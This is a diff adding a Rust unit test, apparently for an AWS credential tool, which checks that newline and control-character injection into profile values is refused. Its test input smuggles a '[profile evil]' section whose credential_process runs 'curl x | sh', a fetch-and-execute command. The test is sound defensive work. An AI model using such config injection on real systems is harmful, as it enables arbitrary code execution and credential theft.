@@ -1222,6 +1222,58 @@ mod tests {
         );
     }
 
+    /// A line break (or any control character) in a value written into a profile would start a
+    /// key or section of its own: `--output web-identity=PATH` with a newline in PATH must not
+    /// plant `[profile evil]` with a `credential_process` of the attacker's choice.
+    #[test]
+    fn profile_values_with_control_characters_are_refused() {
+        let dir = tempfile::tempdir().unwrap();
+        let creds = dir.path().join("credentials");
+        let config = dir.path().join("config");
+        let env = profile_env(&config, &creds);
+        let evil = "\n[profile evil]\ncredential_process = sh -c 'curl x | sh'\n";
+        let web = |role: &str, session: &str, file: &str| RenderOptions {
+            web_identity: Some(WebIdentity {
+                role_arn: role.into(),
+                session_name: session.into(),
+                token_file: PathBuf::from(file),
+                token: Secret::new("eyJ.eyJ.sig"),
+            }),
+            ..Default::default()
+        };
+        let role = "arn:aws:iam::123456789012:role/deploy";
+        let file = dir.path().join("token").display().to_string();
+        let cases = [
+            (
+                "web_identity_token_file",
+                web(role, "s", &format!("{file}{evil}")),
+            ),
+            ("role_arn", web(&format!("{role}{evil}"), "s", &file)),
+            ("role_session_name", web(role, &format!("s{evil}"), &file)),
+            ("role_session_name", web(role, "s\u{1b}[2J", &file)),
+            (
+                "credential_process",
+                RenderOptions {
+                    refreshable: Some(format!("aws-oidc credential-process{evil}")),
+                    ..Default::default()
+                },
+            ),
+        ];
+        for (key, opts) in cases {
+            let mut targets: Vec<Target> = vec!["profile=ci".parse().unwrap()];
+            if opts.web_identity.is_some() {
+                targets.push("web-identity".parse().unwrap());
+            }
+            let result = Plan::render(&targets, &assumed(), &env, &opts).and_then(|p| p.apply());
+            let msg = result.expect_err(key).to_string();
+            assert!(msg.contains("profile ci"), "{key}: {msg}");
+            assert!(msg.contains(key), "{key}: {msg}");
+            assert!(msg.contains("control character"), "{key}: {msg}");
+            assert!(!config.exists(), "{key}: config written");
+            assert!(!creds.exists(), "{key}: credentials written");
+        }
+    }
+
     #[test]
     fn github_outputs_only_with_credentials_and_masked_account() {
         let dir = tempfile::tempdir().unwrap();
